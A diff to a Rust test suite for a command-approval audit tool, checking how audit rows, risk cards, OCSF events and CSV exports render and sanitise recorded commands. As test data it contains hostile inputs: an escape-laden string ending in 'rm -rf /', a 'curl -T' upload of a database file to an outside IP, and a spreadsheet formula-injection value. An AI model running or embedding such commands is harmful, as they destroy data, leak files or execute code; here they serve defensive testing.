@@ -2,7 +2,11 @@
 #![allow(clippy::unwrap_used, reason = "a test may fail")]
 
 use anstream::adapter::strip_str;
-use countersign_api::service::{AuditRow, PendingSubmission, ProgramFacts, Risk, Rule, SessionRow};
+use countersign_api::audit::{AuditRecord, Preceding, ProofEntry, RecordingPlace};
+use countersign_api::service::{
+    AuditRow, Found, PendingSubmission, ProgramFacts, Reason, Risk, Rule, Safety, SessionRow,
+};
+use countersign_cli::export::{csv, ocsf};
 use countersign_cli::{rows, screen};
 use countersign_core::{DecidedBy, Digest, HostId, LoginId, Name, Outcome, SubmissionId};
 
@@ -41,6 +45,8 @@ fn row(outcome: Option<Outcome>, by: Option<&str>, command: &str) -> AuditRow {
         risk: None,
         steps: Vec::new(),
         approvals: Vec::new(),
+        safety: Safety::default(),
+        shown_to: None,
         about: known(),
         anomalies: vec![],
         exit_code: Some(0),
@@ -54,6 +60,34 @@ fn row(outcome: Option<Outcome>, by: Option<&str>, command: &str) -> AuditRow {
 
 fn audit(row: &AuditRow) -> String {
     strip_str(&rows::audit(row)).to_string()
+}
+
+/// A record around a row, with what a hostile host could have put into it.
+fn whole(row: &AuditRow) -> AuditRecord {
+    let entry = ProofEntry {
+        kind: HOSTILE.into(),
+        seq: 7,
+        leaf: Digest([9; 32]),
+        prev: Digest([8; 32]),
+        key: HOSTILE.into(),
+        sig: HOSTILE.into(),
+    };
+    AuditRecord {
+        row: row.clone(),
+        login_kind: HOSTILE.into(),
+        source: HOSTILE.into(),
+        target_class: "high".into(),
+        policy: None,
+        asked: vec![name("on-call")],
+        end: Some(HOSTILE.into()),
+        end_why: Some(HOSTILE.into()),
+        stdout_bytes: Some(3),
+        stderr_bytes: Some(0),
+        recording: None,
+        preceding: vec![],
+        proof: vec![entry],
+        cosigned_below: Some(8),
+    }
 }
 
 /// Neither ESC nor any other control but newline, nor a mark that reorders or hides.
@@ -95,6 +129,10 @@ fn audit_rows_look_as_the_product_page_says() {
         "2026-11-20 14:47:23 UTC  ◷ TIMED OUT    npm install --prefix /opt/app\n                         \
          nobody answered · 60 s · risk unscored · deploy-agent-03 #2\n"
     );
+    late.shown_to = Some(vec![]);
+    assert!(audit(&late).contains(" nobody connected · 60 s · "));
+    late.shown_to = Some(vec![name("on-call"), name("ops-lead")]);
+    assert!(audit(&late).contains(" nobody answered, shown to on-call, ops-lead · 60 s · "));
     late.reason = Some("deadline".into());
     assert!(!audit(&late).contains("deadline"));
     late.late_approval = true;
@@ -134,7 +172,7 @@ fn nothing_recorded_is_printed_raw() {
     let text = audit(&hostile);
     assert!(plain(&text) && text.lines().count() == 3, "{text}");
     assert!(text.contains("ls⟨U+001B⟩[2K⟨U+001B⟩]0;x⟨U+0007⟩⟨U+000D⟩⟨U+202E⟩txt.⟨U+200B⟩⟨U+009B⟩6n⏎rm -rf /⇥#é"));
-    assert!(plain(&strip_str(&rows::full(&hostile)).to_string()));
+    assert!(plain(&strip_str(&rows::record(&whole(&hostile))).to_string()));
     assert!(plain(&strip_str(&rows::rule(&rule(HOSTILE))).to_string()));
     assert!(plain(&strip_str(&rows::session(&session(HOSTILE))).to_string()));
     let queue = [pending(HOSTILE)];
@@ -205,8 +243,139 @@ fn what_is_unusual_about_the_place_is_said() {
     row.shell = "zsh".into();
     row.locale = vec!["LC_ALL=C".into()];
     assert!(audit(&row).contains(" #2 · shell zsh\n"));
-    let full = strip_str(&rows::full(&row)).to_string();
+    let full = strip_str(&rows::record(&whole(&row))).to_string();
     assert!(full.contains("shell  zsh\n") && full.contains("locale  LC_ALL=C\n"), "{full}");
+}
+
+#[test]
+fn the_card_says_what_the_service_found() {
+    let mut row = pending("curl -T /srv/db.sql 203.0.113.9");
+    row.flags = vec!["opaque_code".into()];
+    row.anomalies = vec!["external_network".into(), "opaque_code".into(), HOSTILE.into()];
+    let reason = Reason {
+        id: "upload".into(),
+        weight: 40,
+        reason: "sends a file".into(),
+        technique: "T1048".into(),
+        category: "exfiltration".into(),
+        start: 5,
+        end: 19,
+    };
+    let odd = Reason { start: 30, end: 400, ..reason.clone() };
+    let found = Found {
+        reasons: vec![reason, odd],
+        consequences: vec!["sends a file to 203.0.113.9, first time".into(), HOSTILE.into()],
+        ..Found::default()
+    };
+    row.risk = Some(Risk { score: 70, level: "high".into(), found });
+    let card = strip_str(&rows::card(&row, None)).to_string();
+    for part in [
+        "risk high 70",
+        "⚑ opaque_code: runs a program that is not in this line\n",
+        "⚑ external_network: talks to a host that is not on the target's list\n",
+        "→ sends a file to 203.0.113.9, first time\n",
+        "+40 sends a file (upload T1048) in `-T /srv/db.sql`\n",
+        "+40 sends a file (upload T1048)\n",
+    ] {
+        assert!(card.contains(part), "{part}: {card}");
+    }
+    assert!(plain(&card) && card.matches("opaque_code").count() == 1, "{card}");
+    let queue = strip_str(&rows::queue(&[row], &[], None)).to_string();
+    assert!(queue.contains("→ sends a file to") && queue.contains("⚑ external_network:"), "{queue}");
+}
+
+#[test]
+fn the_record_has_every_part_of_the_product_page() {
+    let mut row = row(Some(Outcome::Approved), Some("ops-lead"), "mysql -p‹redacted password› < x");
+    row.safety.redacted.insert("password".into(), 1);
+    row.safety.personal.insert("email".into(), 2);
+    row.shown_to = Some(vec![name("on-call")]);
+    row.rule = Some(rule("x"));
+    let mut record = whole(&row);
+    (record.end, record.end_why, record.source) = (Some("exited".into()), None, "10.0.0.7".into());
+    record.recording = Some(RecordingPlace { login: row.login, offset: Some(512), held: 2048 });
+    record.preceding = vec![Preceding { number: 1, command: "id".into(), outcome: None }];
+    let text = strip_str(&rows::record(&record)).to_string();
+    for part in [
+        "outcome  ✔ APPROVED\n",
+        "user  not verified\n",
+        "class high\n",
+        "source  10.0.0.7 (as claimed)\n",
+        "decided by  reviewer ops-lead · 4.2 s\n",
+        "latency  4.2 s\n",
+        "last reviewed 2026-10-02 by ops-lead\n",
+        "asked  on-call\n",
+        "shown to  on-call\n",
+        "ended with  exit 0\n",
+        "ran  as approved\n",
+        "output  3 bytes on stdout, 0 bytes on stderr\n",
+        "before  #1 … id\n",
+        "recording  2048 bytes of ",
+        " from byte 512;",
+        "redacted  password 1\n",
+        "personal  email 2\n",
+        "covered by the one over 8 entries, cosigned\n",
+    ] {
+        assert!(text.contains(part), "{part}: {text}");
+    }
+    record.end_why = Some("drifted".into());
+    assert!(rows::record(&record).contains("drifted: what would have run was not what was approved"));
+}
+
+#[test]
+fn events_of_ocsf_have_what_the_class_requires() {
+    for outcome in Outcome::ALL.into_iter().map(Some).chain([None]) {
+        for by in [None, Some("ops-lead"), Some("whitelist_rule:17")] {
+            let mut row = row(outcome, by, HOSTILE);
+            row.started_at_ms = row.started_at_ms.filter(|_| outcome.is_some_and(Outcome::lets_run));
+            row.rule = by.filter(|by| by.contains(':')).map(rule);
+            row.risk = Some(Risk { score: 70, level: "high".into(), ..Risk::default() });
+            let event = ocsf::event(&row);
+            // Process Activity of 1.5.0: required by the base event, the class and the profile `host`.
+            for member in [
+                "/activity_id",
+                "/category_uid",
+                "/class_uid",
+                "/type_uid",
+                "/time",
+                "/severity_id",
+                "/metadata/version",
+                "/metadata/product/name",
+                "/metadata/product/vendor_name",
+                "/device/type_id",
+                "/actor/user/name",
+                "/process/cmd_line",
+                "/process/uid",
+            ] {
+                assert!(event.pointer(member).is_some_and(|value| !value.is_null()), "{member}: {event}");
+            }
+            assert_eq!((&event["class_uid"], &event["type_uid"]), (&1007.into(), &100_701.into()));
+            let runs = outcome.is_some_and(Outcome::lets_run);
+            let action = if outcome.is_none() { 0 } else { 2 - i32::from(runs) };
+            assert_eq!(event["action_id"], action, "{event}");
+            assert_eq!(event["status_id"], if runs { 1 } else { 2 * i32::from(outcome.is_some()) }, "{event}");
+            assert_eq!(
+                (&event["severity_id"], &event["risk_level_id"], &event["is_alert"]),
+                (&4.into(), &3.into(), &true.into())
+            );
+            assert_eq!(event["process"]["cmd_line"], HOSTILE);
+            let line = screen::json(&event).unwrap();
+            assert!(line.is_ascii() && !line.contains('\n'));
+        }
+    }
+}
+
+#[test]
+fn the_table_has_a_line_for_each_row() {
+    let mut denied = row(Some(Outcome::Denied), Some("on-call"), "=cmd|'/c calc'!A1");
+    denied.reason = Some("no,\nnever".into());
+    denied.about = Box::default();
+    let table = csv::table([&denied, &row(None, None, HOSTILE)].into_iter());
+    let lines: Vec<&str> = table.split_terminator("\r\n").collect();
+    assert_eq!((lines.len(), lines[0].split(',').count()), (3, csv::COLUMNS.len()));
+    assert!(lines[1].contains(",2026-11-20T14:47:23Z,denied,on-call,"), "{}", lines[1]);
+    assert!(lines[1].contains(",\"no,⏎never\",") && lines[1].contains(",'=cmd|'/c calc'!A1,"), "{}", lines[1]);
+    assert!(plain(&table.replace('\r', "")));
 }
 
 fn rule(line: &str) -> Rule {
